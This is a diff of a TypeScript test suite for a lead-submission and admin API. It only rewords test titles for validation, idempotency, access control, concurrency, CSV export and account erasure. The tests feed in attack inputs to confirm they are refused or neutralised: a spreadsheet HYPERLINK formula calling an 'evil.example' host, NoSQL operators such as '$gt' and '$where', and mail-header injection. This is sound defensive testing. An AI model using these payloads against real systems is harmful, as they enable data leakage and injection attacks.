@@ -39,7 +39,7 @@ async function newLead(change: Record<string, unknown> = {}): Promise<string> {
 }
 
 describe('a submission', () => {
-  it('keeps the campaign that it came from, in lower case', async () => {
+  it('keeps its campaign, in lower case', async () => {
     const source = { utmSource: 'TikTok', utmCampaign: 'Launch', referrerHost: 'www.tiktok.com' };
     const id = await newLead({ source });
     expect((await getLead(id)).source).toEqual({
@@ -52,7 +52,7 @@ describe('a submission', () => {
     expect((await submit(someLead({ source: { utmSource: 'x'.repeat(65) } }))).status).toBe(422);
   });
 
-  it('is kept with normalised numbers and the words that were agreed to, and is published', async () => {
+  it('is stored with a normalised number and the accepted terms, and is published', async () => {
     const body = someLead({
       phoneNumber: '+234 0801-234 5678',
       wantsCall: 'yes',
@@ -89,7 +89,7 @@ describe('a submission', () => {
     ['+49 (0)176 1234 5678', '+4917612345678'],
     ['+234 0801 234 5678', '+2348012345678'],
     ['+1 (212) 555-0142', '+12125550142'],
-  ])('with the number %j is kept as %s and found by both', async (phoneNumber, stored) => {
+  ])('with the number %j is stored as %s and found by both', async (phoneNumber, stored) => {
     const id = await newLead({ phoneNumber });
     expect(await getLead(id)).toMatchObject({ phoneNumber: stored, isPhonePossible: true });
     for (const search of [stored, phoneNumber]) {
@@ -101,7 +101,7 @@ describe('a submission', () => {
     }
   });
 
-  it('is linked to one with another spelling of its number', async () => {
+  it('is linked to a submission with another spelling of its number', async () => {
     const digits = String(randomInt(10_000_000, 100_000_000));
     const first = await newLead({ phoneNumber: `+49 (0)176 ${digits}` });
     const second = await newLead({ phoneNumber: `\u202a+49176\u00a0${digits}\u202c` });
@@ -110,7 +110,7 @@ describe('a submission', () => {
       expect((await list({ search })).data.map(({ id }) => id).sort()).toEqual([first, second].sort());
   });
 
-  it('names under each field what is wrong with it (ASVS 2.2.3)', async () => {
+  it('has an error at each wrong field (ASVS 2.2.3)', async () => {
     const body = {
       ...someLead(),
       email: 'no',
@@ -135,14 +135,14 @@ describe('a submission', () => {
   it.each([
     ['the field that nobody sees', { website: 'https://spam.example' }, ['honeypot']],
     ['no time to read it', { elapsedMs: 40 }, ['too-fast']],
-  ])('with %s is kept and marked', async (_what, change, reasons) => {
+  ])('is stored and marked if it has %s', async (_what, change, reasons) => {
     const lead = await getLead(await newLead(change));
     expect(lead).toMatchObject({ isSuspect: true, suspectReasons: reasons });
     expect((await list({ suspect: 'yes', search: lead.email })).data).toHaveLength(1);
     expect((await list({ suspect: 'no', search: lead.email })).data).toHaveLength(0);
   });
 
-  it('cannot bring a status, an assignee, a version or a note of its own (ASVS 8.2.3, 15.3.3)', async () => {
+  it('cannot set its own status, assignee, version or note (ASVS 8.2.3, 15.3.3)', async () => {
     const id = await newLead({
       status: 'activated',
       assigneeId: adminUser.userId,
@@ -153,7 +153,7 @@ describe('a submission', () => {
     expect(await getLead(id)).toMatchObject({ status: 'new', assignee: null, version: 1, timeline: [] });
   });
 
-  it('refuses operators and controls in place of texts, and never answers 500 (ASVS 1.2.4)', async () => {
+  it('is refused with 422 if it has operators or control characters instead of text (ASVS 1.2.4)', async () => {
     for (const change of [
       { email: { $gt: '' } },
       { fullName: ['a'] },
@@ -163,7 +163,7 @@ describe('a submission', () => {
       expect((await submit(someLead(change))).status).toBe(422);
   });
 
-  it('sent fifty times at once under one key is one lead with one reply', async () => {
+  it('sent fifty times at once with one key creates one lead, with the same reply', async () => {
     const body = someLead();
     const key = { 'idempotency-key': randomUUID() };
     const replies = await Promise.all(Array.from({ length: 50 }, () => submit(body, key)));
@@ -175,7 +175,7 @@ describe('a submission', () => {
     expect(other).toMatchObject({ status: 409, envelope: { error: 'request.idempotency_key_reused' } });
   });
 
-  it('of the same person is kept too, and linked by address or by number', async () => {
+  it('is stored for a known person as well, and linked by address or by number', async () => {
     const first = someLead();
     const ids = [
       await newLead(first),
@@ -190,7 +190,7 @@ describe('a submission', () => {
 });
 
 describe('the list', () => {
-  it('counts each status under the search whatever the status filter shows, and shows today in the chart', async () => {
+  it('counts each status within the search, whatever the status filter, and has today in the chart', async () => {
     const name = `Counted ${unique()}`;
     const ids = [
       await newLead({ fullName: name }),
@@ -218,7 +218,7 @@ describe('the list', () => {
     expect(found.assignees).toContainEqual({ id: adminUser.userId, fullName: 'Zed Admin' });
   });
 
-  it('finds a number however it is written, and takes every text literally', async () => {
+  it('finds a number however it is written, and searches for any text literally', async () => {
     const body = someLead({ fullName: 'A.*b (c) [d] $e' });
     await newLead(body);
     const written = body.phoneNumber.replace('+234', '+234 ').replace(/(\d{3})(\d{4})$/, '$1-$2');
@@ -228,7 +228,7 @@ describe('the list', () => {
     for (const search of ['(', '[a', '\\', '$where', '^']) expect((await list({ search })).status).toBe(200);
   });
 
-  it('is empty beyond its end and outside of its days, and 50 rows long by itself', async () => {
+  it('is empty beyond its end and outside its days, and has 50 rows by default', async () => {
     const beyond = await list({ page: '999999' });
     expect(beyond).toMatchObject({ status: 200, data: [], pagination: { current: 999_999 } });
     expect((await list({ to: '2020-01-01' })).data).toEqual([]);
@@ -240,7 +240,7 @@ describe('the list', () => {
     expect(operators.pagination?.total).toBe((await list({ limit: '1' })).pagination?.total);
   });
 
-  it('is for admins alone', async () => {
+  it('is only for admins', async () => {
     const id = await newLead();
     const { token } = await harness.sessions.open();
     for (const [method, path] of [
@@ -259,7 +259,7 @@ describe('the list', () => {
 });
 
 describe('working a lead', () => {
-  it('moves it, notes who did what, and is published with its audit entry', async () => {
+  it('changes its status, adds a timeline entry with the admin, and publishes it with its audit entry', async () => {
     const id = await newLead();
     const { status, envelope } = await patch(
       id,
@@ -296,7 +296,7 @@ describe('working a lead', () => {
     expect(JSON.stringify(audit?.value)).not.toContain('Monday');
   });
 
-  it('refuses a move that does not follow, an assignee who is no admin, and a change of nothing', async () => {
+  it('refuses an impossible status change, an assignee who is not an admin, and an empty change', async () => {
     const id = await newLead();
     expect(await patch(id, { status: 'activated' })).toMatchObject({
       status: 422,
@@ -313,7 +313,7 @@ describe('working a lead', () => {
     expect((await getLead(id)).version).toBe(1);
   });
 
-  it('lets one of two admins win, and shows the other what is there now', async () => {
+  it('accepts one of two simultaneous changes, and shows the other admin the new state', async () => {
     const id = await newLead();
     const seen = { 'if-match': '"1"' };
     const replies = await Promise.all([
@@ -328,7 +328,7 @@ describe('working a lead', () => {
 });
 
 describe('the CSV', () => {
-  it('holds what the list holds, under the same filters, and no formula', async () => {
+  it('has the rows of the list under the same filters, and no formulas', async () => {
     const mark = unique();
     await newLead({
       fullName: `=HYPERLINK("http://evil.example?${mark}","x")`,
@@ -362,7 +362,7 @@ describe('the CSV', () => {
 });
 
 describe('a list of leads', () => {
-  it('counts the others of one person no further than a lead lists them', async () => {
+  it('counts a person’s other submissions only up to the number that a lead lists', async () => {
     const email = `many-${unique()}@example.com`;
     await newLead({ email });
     const stored = harness.database.collection<{ _id: string }>('submissions');
@@ -387,7 +387,7 @@ describe('reading in bulk', () => {
     return { email, remove };
   };
 
-  it('is kept back from an admin whose sign-in is eleven minutes old, and on the audit', async () => {
+  it('is refused eleven minutes after an admin’s sign-in, and is audited', async () => {
     const { email, remove } = await seed(210);
     const signedInAt = new Date(Date.now() - 11 * MINUTE_MS);
     const reader = await harness.sessions.open({ role: 'owner', signedInAt });
@@ -427,7 +427,7 @@ describe('the contact form', () => {
   const send = (body: unknown, headers: Record<string, string> = {}) =>
     harness.call<{ id: string }>('POST', '/api/contact', { body, headers });
 
-  it('sent fifty times at once under one key is one message, published once', async () => {
+  it('sent fifty times at once with one key creates one message, published once', async () => {
     const body = message();
     const key = { 'idempotency-key': randomUUID() };
     const replies = await Promise.all(Array.from({ length: 50 }, () => send(body, key)));
@@ -439,7 +439,7 @@ describe('the contact form', () => {
     expect(harness.seen('support', id)).toHaveLength(1);
   });
 
-  it('refuses what is missing, too long, or would be a second mail header (ASVS 1.3.11)', async () => {
+  it('refuses missing and too long fields, and line breaks that would add a mail header (ASVS 1.3.11)', async () => {
     const { envelope } = await send({});
     expect(Object.keys((envelope.data as unknown as { fields: object }).fields).sort()).toEqual([
       'email',
@@ -460,7 +460,7 @@ describe('the contact form', () => {
 });
 
 describe('a member', () => {
-  it('gets what was sent under the own address, and it is erased with the account, which the audit records', async () => {
+  it('can export forms from their own address, which are erased with the account and audited', async () => {
     const member = someUser();
     await harness.publishUser(member);
     const own = await newLead({ email: member.email });
@@ -492,7 +492,7 @@ describe('a member', () => {
     await harness.storesNothingOf(member.email);
   });
 
-  it('is erased with forms from a former address, and no other member gets those', async () => {
+  it('is erased with forms from a former address, which no other member can export', async () => {
     const member = someUser();
     await harness.publishUser(member);
     const before = await newLead({ email: member.email });
